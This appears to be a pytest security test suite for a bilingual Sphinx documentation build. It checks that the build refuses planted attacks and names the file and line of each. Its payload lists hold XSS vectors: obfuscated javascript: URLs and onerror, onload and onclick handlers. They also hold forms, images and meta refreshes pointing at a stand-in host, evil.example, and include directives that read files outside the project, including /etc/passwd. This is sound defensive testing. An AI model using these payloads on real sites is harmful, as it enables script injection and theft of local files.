"""Nothing a page or a translation says can harm the published site.

Each attack is planted, as a maintainer (a page) or a translator (a catalog)
could, in a copy of a small bilingual site built with the project's own
``Makefile`` and ``conf.py`` (:mod:`security_site`).  ``make html`` must exit
non-zero naming the ``file:line`` of every attack, and the published site
must still be the last good one; a scan of everything under ``_build/html``
finds nothing that runs, styles, submits, loads from elsewhere or leaks a
file of the machine, while the same scan of what the failed build staged
finds the attacks (so the scan can fail).
"""

from __future__ import annotations

import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from kbcopy import REPO, differences, make, needs_venv, tree_digest
from security_site import make_site, outside_file, scan

pytestmark = needs_venv

#: (what, the line planted in a page); ``{secret}`` is the outside file, relative
PAGE_ATTACKS = [
    ("entity-encoded scheme", '见<a href="javascript&#58;alert(1)">链接</a>。'),
    ("tab inside the scheme", '见<a href="java&#9;script:alert(1)">链接</a>。'),
    ("decimal entity", '见<a href="&#106;avascript:alert(1)">链接</a>。'),
    ("'<' inside an attribute", '见<a title="<" href="javascript:alert(1)">链接</a>。'),
    ("vbscript", '见<a href="vbscript:msgbox(1)">链接</a>。'),
    ("data URL", '见<a href="data:text/html,x">链接</a>。'),
    ("style element", "文字<style>body{display:none}</style>。"),
    ("unclosed style", '文字<style title="<">。'),
    ("form", '文字<form action="https://evil.example/"><input name="p"></form>。'),
    ("remote image", '文字<img src="https://evil.example/t.png" alt="x">。'),
    ("svg", '文字<svg onload="alert(1)"></svg>。'),
    ("meta refresh", '文字<meta http-equiv="refresh" content="0;url=https://evil.example/">。'),
    ("object", '文字<object data="https://evil.example/x.swf"></object>。'),
    ("event handler", '文字<span onmouseover="alert(1)">悬停</span>。'),
    ("css url()", '文字<span style="background:url(https://evil.example/x.png)">样式</span>。'),
    ("raw block", '```{raw} html\n<a href="javascript&#58;alert(1)">链接</a>\n```'),
    ("eval-rst raw", "```{eval-rst}\n.. raw:: html\n\n   <b onclick=\"alert(1)\">x</b>\n```"),
    ("eval-rst link", "```{eval-rst}\n`链接 <javascript:alert(1)>`__\n```"),
    ("literalinclude", "```{literalinclude} {secret}\n```"),
    ("include", "```{include} {secret}\n```"),
    ("include, absolute", "```{include} {absolute}\n```"),
    ("csv-table file", "```{csv-table} 表\n:file: {secret}\n```"),
    ("raw file", "```{raw} html\n:file: {secret}\n```"),
    ("image", "![图]({secret})"),
    ("download", "{download}`下载 <{secret}>`"),
]

#: (what, the translation of '见<a href="second.html">第二页</a>。')
TRANSLATED_LINKS = [
    ("entity-encoded scheme", 'See <a href=\\"javascript&#58;alert(1)\\">the second page</a>.'),
    ("tab inside the scheme", 'See <a href=\\"java&#9;script:alert(1)\\">the second page</a>.'),
    ("'<' inside an attribute",
     'See <a title=\\"<\\" href=\\"javascript:alert(1)\\">the second page</a>.'),
    ("event handler", 'See <a href=\\"second.html\\" onclick=\\"x()\\">the second page</a>.'),
    ("css on the link", 'See <a href=\\"second.html\\" style=\\"display:none\\">the page</a>.'),
]

#: (what, a translation of '正文。' adding what its source has not)
TRANSLATED_ADDITIONS = [
    ("style", "Text<style>body{display:none}</style>."),
    ("unclosed style", 'Text<style title=\\"<\\">.'),
    ("form", 'Text<form action=\\"/x\\"><input name=\\"p\\"></form>.'),
    ("remote image", 'Text<img src=\\"https://evil.example/t.png\\">.'),
    ("raw block", 'Text.\\n\\n```{raw} html\\n<a href=\\"javascript:alert(1)\\">x</a>\\n```'),
    ("eval-rst", 'Text.\\n\\n```{eval-rst}\\n.. raw:: html\\n\\n   <b>x</b>\\n```'),
    ("include", "```{include} {secret}\\n```"),
    ("image", "![x]({secret})"),
    ("second paragraph", "Text.\\n\\nMore text."),
]

ALL_CATALOGS = "locale/en/LC_MESSAGES"


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    """The test site, built clean once; its published files' digest."""
    root = make_site(tmp_path_factory.mktemp("security") / "project")
    result = make(root, "html")
    assert result.returncode == 0, result.stdout + result.stderr
    assert scan(root / "_build" / "html") == []
    return root, tree_digest(root / "_build" / "html")


@pytest.fixture
def project(built: tuple[Path, dict[str, str]], tmp_path: Path) -> Iterator[Path]:
    """A copy of the built site to attack (a machine file lies beside it)."""
    root = tmp_path / "project"
    shutil.copytree(built[0], root, symlinks=True)
    yield root


def _secret(root: Path, page: str) -> dict[str, str]:
    secret = outside_file(root.parent)
    relative = Path("../" * (page.count("/") + 2), "machine", "secret.txt").as_posix()
    return {"secret": relative, "absolute": str(secret)}


def _plant_page(root: Path, name: str, blocks: list[str]) -> list[int]:
    """Write ``docs/<name>.md`` with one block per attack; the line each starts on."""
    text, lines = [f"({name})=", f"# {name}", ""], []
    for block in blocks:
        lines.append(len(text) + 1)
        text += [*block.split("\n"), ""]
    (root / "docs" / f"{name}.md").write_text("\n".join(text), encoding="utf-8")
    index = root / "docs" / "index.md"
    index.write_text(index.read_text(encoding="utf-8").replace("second\n", f"second\n{name}\n"),
                     encoding="utf-8")
    return lines


def _named(output: str, path: str, line: int, lines: int = 1) -> bool:
    """Whether ``output`` names ``path`` at ``line`` (or the next ``lines - 1``: in a block)."""
    return any(f"{path}:{number}:" in entry for entry in output.splitlines()
               for number in range(line, line + lines))


def _assert_refused(root: Path, clean: dict[str, str],
                    expected: list[tuple[str, str, int]] | list[tuple[str, str, int, int]]
                    ) -> str:
    result = make(root, "html")
    output = result.stdout + result.stderr
    assert result.returncode != 0, output
    missing = [f"{what} ({path}:{line})" for what, path, line, *size in expected
               if not _named(output, path, line, *size)]
    assert missing == [], output
    published = root / "_build" / "html"
    assert differences(clean, tree_digest(published)) == []
    assert scan(published) == []
    return output


def test_every_attack_in_a_page_fails_make_html_at_its_line(
        built: tuple[Path, dict[str, str]], project: Path) -> None:
    names = _secret(project, "attack")
    blocks = [block.replace("{secret}", names["secret"]).replace("{absolute}", names["absolute"])
              for _what, block in PAGE_ATTACKS]
    lines = _plant_page(project, "attack", blocks)
    _assert_refused(project, built[1], [(what, "docs/attack.md", line, block.count("\n") + 1)
                                        for (what, block), line in zip(PAGE_ATTACKS, lines,
                                                                       strict=True)])
    # what the failed build staged holds the attacks (the scan sees them there), but
    # no file of the machine: directives refused read nothing
    staged = scan(project / "_build" / "staging")
    assert not [finding for finding in staged if "outside the project" in finding], staged
    # (the unclosed <style> hides everything after it from a browser, and from the scan)
    for expected in ("javascript: URL", "vbscript: URL", "data: URL", "<style> in page content"):
        assert any(expected in finding for finding in staged), (expected, staged)


def test_a_page_title_with_raw_html_fails_and_no_neighbour_prints_it(
        built: tuple[Path, dict[str, str]], project: Path) -> None:
    page = project / "docs" / "second.md"
    page.write_text(page.read_text(encoding="utf-8").replace(
        "# 第二页", '# 第二页<img src="x" onerror="alert(1)">'), encoding="utf-8")
    _assert_refused(project, built[1], [("title", "docs/second.md", 2)])
    staged = project / "_build" / "staging" / "zh_CN" / "first.html"
    assert 'onerror="alert(1)"' in staged.read_text(encoding="utf-8")  # furo's next link


def _po_line(path: Path, text: str) -> int:
    for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
        if text in line:
            return number
    raise AssertionError(f"{text!r} not in {path}")


def _add_entries(catalog: Path, page: str, entries: list[tuple[int, str, str]]) -> list[int]:
    """Append entries (MyST line, msgid, msgstr as written in the file); their msgstr lines."""
    text = catalog.read_text(encoding="utf-8") if catalog.exists() else (
        'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n"Language: en\\n"\n')
    lines = []
    for line, msgid, msgstr in entries:
        text += f'\n#: ../../docs/{page}.md:{line}\nmsgid "{msgid}"\n'
        lines.append(text.count("\n") + 1)
        text += f'msgstr "{msgstr}"\n'
    catalog.write_text(text, encoding="utf-8")
    return lines


def test_every_attack_in_a_translation_fails_make_html_at_the_po_line(
        built: tuple[Path, dict[str, str]], project: Path) -> None:
    names = _secret(project, "links")
    source = '见<a href="second.html">第二页</a>。'
    msgid = source.replace('"', '\\"')
    # a page whose paragraphs each hold a link; each translation turns one into an attack
    sources = [f"{number}{source}" for number in range(len(TRANSLATED_LINKS))]
    lines = _plant_page(project, "links", sources)
    links = _add_entries(
        project / ALL_CATALOGS / "links.po", "links",
        [(line, f"{number}{msgid}", f"{number}{attack}")
         for number, ((_, attack), line) in enumerate(zip(TRANSLATED_LINKS, lines,
                                                          strict=True))])
    # and a plain page whose translations add markup or structure
    plain = [f"第{number}段正文。" for number in range(len(TRANSLATED_ADDITIONS))]
    plain_lines = _plant_page(project, "plain", plain)
    additions = _add_entries(
        project / ALL_CATALOGS / "plain.po", "plain",
        [(line, text, attack.replace("{secret}", names["secret"]))
         for text, (_, attack), line in zip(plain, TRANSLATED_ADDITIONS, plain_lines,
                                             strict=True)])
    # a translated title with raw HTML, which furo's previous/next links would print
    title = project / ALL_CATALOGS / "second.po"
    title.write_text(title.read_text(encoding="utf-8").replace(
        'msgstr "Second page"', 'msgstr "Second <img src=\\"x\\" onerror=\\"alert(1)\\">"'),
        encoding="utf-8")
    expected = [(what, f"{ALL_CATALOGS}/links.po", line)
                for (what, _), line in zip(TRANSLATED_LINKS, links, strict=True)]
    expected += [(what, f"{ALL_CATALOGS}/plain.po", line)
                 for (what, _), line in zip(TRANSLATED_ADDITIONS, additions, strict=True)]
    expected.append(("title", f"{ALL_CATALOGS}/second.po", _po_line(title, "onerror")))
    output = _assert_refused(project, built[1], expected)
    assert "adds the {raw} directive" in output and "adds the {include} directive" in output
    assert "adds a paragraph" in output


def test_translated_raw_block_is_not_silently_dropped(
        built: tuple[Path, dict[str, str]], project: Path) -> None:
    """Sphinx drops a translation that is not a paragraph and shows the Chinese: refused."""
    catalog = project / ALL_CATALOGS / "second.po"
    catalog.write_text(catalog.read_text(encoding="utf-8").replace(
        'msgstr "The text of the second page."',
        'msgstr "```{eval-rst}\\nThe text of the second page.\\n```"'), encoding="utf-8")
    line = _po_line(catalog, "eval-rst")
    output = _assert_refused(project, built[1], [("eval-rst", f"{ALL_CATALOGS}/second.po",
                                                  line)])
    assert "adds the {eval-rst} directive" in output


def test_symlink_leaving_the_project_is_refused(built: tuple[Path, dict[str, str]],
                                                project: Path) -> None:
    secret = outside_file(project.parent)
    shutil.copy(secret, secret.with_suffix(".md"))
    (project / "docs" / "leak.md").symlink_to(secret.with_suffix(".md"))
    (project / "docs" / "images").symlink_to(secret.parent, target_is_directory=True)
    result = make(project, "html")
    output = result.stdout + result.stderr
    assert result.returncode != 0
    assert "docs/leak.md:1: WARNING: symlink to" in output, output
    assert "docs/images:1: WARNING: symlink to" in output, output
    assert differences(built[1], tree_digest(project / "_build" / "html")) == []
    assert not [finding for finding in scan(project / "_build" / "staging")
                if "outside the project" in finding]


def test_page_not_in_utf8_is_named_with_line_and_byte(built: tuple[Path, dict[str, str]],
                                                      project: Path) -> None:
    page = project / "docs" / "second.md"
    text = page.read_text(encoding="utf-8") + "\n第三段。\n"
    page.write_bytes(text.encode("gb18030"))
    result = make(project, "html")
    output = result.stdout + result.stderr
    assert result.returncode != 0
    assert "Traceback" not in output, output
    assert "docs/second.md:2: WARNING: not valid UTF-8: byte 0xb5 at column 3" in output, output
    assert differences(built[1], tree_digest(project / "_build" / "html")) == []


def test_catalog_not_in_utf8_is_named_with_line_and_byte(built: tuple[Path, dict[str, str]],
                                                         project: Path) -> None:
    catalog = project / ALL_CATALOGS / "second.po"
    text = catalog.read_text(encoding="utf-8")
    catalog.write_bytes(text.encode("gb18030"))
    line = next(n for n, entry in enumerate(text.splitlines(), start=1) if "第二页" in entry)
    result = make(project, "html")
    output = result.stdout + result.stderr
    assert result.returncode != 0
    assert "Traceback" not in output, output
    assert f"second.po:{line}: WARNING: not valid UTF-8: byte" in output, output


def test_byte_order_mark_before_front_matter_is_accepted(
        built: tuple[Path, dict[str, str]], project: Path) -> None:
    page = project / "docs" / "documents" / "letter.md"
    page.write_bytes(b"\xef\xbb\xbf" + page.read_bytes())
    result = make(project, "html")
    assert result.returncode == 0, result.stdout + result.stderr
    assert differences(built[1], tree_digest(project / "_build" / "html")) == []


def test_files_inside_the_project_are_still_read(built: tuple[Path, dict[str, str]],
                                                 project: Path) -> None:
    """The checks refuse only what leaves the project: includes inside it work as before."""
    docs = project / "docs"
    (docs / "parts").mkdir()
    (docs / "parts" / "snippet-source.inc").write_text("被包含的段落。\n", encoding="utf-8")
    (docs / "parts" / "table.csv").write_text("甲,乙\n1,2\n", encoding="utf-8")
    (docs / "parts" / "fragment.html").write_text("<b>粗体片段</b>\n", encoding="utf-8")
    (project / "notes.txt").write_text("项目根目录中的文本\n", encoding="utf-8")
    shutil.copy(project / "_build" / "html" / "zh_CN" / "_static" / "itukb-icon.svg",
                docs / "parts" / "icon.svg")
    # symlinks inside the project are followed
    (docs / "parts" / "snippet.inc").symlink_to("snippet-source.inc")
    (docs / "parts" / "linked.inc").symlink_to("snippet-source.inc")
    blocks = ["```{include} parts/snippet.inc\n```", "```{literalinclude} ../notes.txt\n```",
              "```{csv-table} 表\n:name: parts-table\n:file: parts/table.csv\n```",
              "```{raw} html\n:file: parts/fragment.html\n```", "![图标](parts/icon.svg)",
              "```{eval-rst}\n.. include:: /parts/linked.inc\n   :parser: myst_parser.sphinx_\n```"]
    _plant_page(project, "parts-page", blocks)
    result = make(project, "html")
    assert result.returncode == 0, result.stdout + result.stderr
    page = (project / "_build" / "html" / "zh_CN" / "parts-page.html").read_text(
        encoding="utf-8")
    for shown in ("被包含的段落。", "项目根目录中的文本", "甲", "<b>粗体片段</b>", "icon.svg"):
        assert shown in page, shown
    assert page.count("被包含的段落。") == 2
    assert scan(project / "_build" / "html") == []


@pytest.mark.site
def test_knowledge_base_publishes_nothing_active(site: Path) -> None:
    """The real site, both languages: the scan finds only what the theme is allowed."""
    assert list(site.rglob("*.html"))
    assert scan(site) == []


def test_byte_order_mark_in_a_catalog_is_refused_by_name(
        built: tuple[Path, dict[str, str]], project: Path) -> None:
    catalog = project / ALL_CATALOGS / "second.po"
    catalog.write_bytes(b"\xef\xbb\xbf" + catalog.read_bytes())
    result = make(project, "html")
    output = result.stdout + result.stderr
    assert result.returncode != 0
    assert "second.po:1: WARNING: starts with a byte-order mark; remove it" in output, output
    assert differences(built[1], tree_digest(project / "_build" / "html")) == []


def test_check_po_names_added_structure(tmp_path: Path) -> None:
    """``make check-po`` says what a translation adds, not only that a code span differs."""
    catalog = tmp_path / "page.po"
    catalog.write_text(
        'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n"Language: en\\n"\n\n'
        '#: ../../docs/page.md:3\nmsgid "正文。"\nmsgstr "```{include} ../../etc/passwd\\n```"\n'
        '\n#: ../../docs/page.md:5\nmsgid "第二段。"\nmsgstr "Second.\\n\\n- and a list"\n',
        encoding="utf-8")
    result = subprocess.run([sys.executable, str(REPO / "scripts" / "check_catalogs.py"),
                             str(catalog)], capture_output=True, text=True, check=False)
    assert result.returncode != 0
    assert f"{catalog}:7: error: [structure] the translation adds the {{include}} directive" \
        in result.stdout + result.stderr, result.stdout + result.stderr
    assert f"{catalog}:11: error: [structure] the translation adds a list, a paragraph" \
        in result.stdout + result.stderr, result.stdout + result.stderr


def test_meta_refresh_from_front_matter_fails(built: tuple[Path, dict[str, str]],
                                              project: Path) -> None:
    page = project / "docs" / "second.md"
    page.write_text('---\nmyst:\n  html_meta:\n    "http-equiv=refresh": "0;url=https://evil'
                    '.example/"\n---\n' + page.read_text(encoding="utf-8"), encoding="utf-8")
    output = _assert_refused(project, built[1], [("meta refresh", "docs/second.md", 1)])
    assert '<meta http-equiv="refresh">' in output
